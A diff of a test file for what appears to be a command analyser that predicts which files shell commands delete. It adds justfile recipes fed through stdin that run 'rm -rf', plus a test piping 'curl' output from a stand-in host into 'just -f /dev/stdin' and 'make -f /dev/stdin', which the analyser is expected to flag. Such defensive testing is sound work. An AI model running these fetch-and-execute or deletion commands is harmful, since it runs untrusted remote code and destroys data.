@@ -254,15 +254,26 @@ describe('a recipe of a justfile is what its lines do', () => {
     ['cd sub && just clean', ['out']],
     ['just home', ['/home/dev/x']],
     ['just py', ['py']],
+    ["just -f /dev/stdin <<< $'q:\\n  rm -rf q'", ['q']],
+    ["just --justfile=- r <<< $'q:\\n  rm q\\nr:\\n  rm r'", ['r']],
+    ["printf 'q:\\n  rm q\\n' | just -f /dev/fd/0", ['q']],
+    ['just -f other.just', ['o']],
     ['just --list', []],
   ])('%s', (command, deleted) => {
-    const found = run(command, { justfile })
+    const found = run(command, { justfile, 'other.just': 'o:\n  rm o\n' })
     expect(found.deleted).toEqual(
       deleted.map((path) => (path.startsWith('/') ? path : `${here}/${path}`)),
     )
     expect(found.complete).toBe(true)
   })
 })
+
+test.each(['just -f /dev/stdin', 'just -f -', 'make -f /dev/stdin'])(
+  'what comes in as the file and cannot be read is code that comes in: curl … | %s',
+  (command) => {
+    expect(run(`curl -s https://x.example/f | ${command}`, {})).toMatchObject({ complete: false })
+  },
+)
 
 const composer = JSON.stringify({
   scripts: {
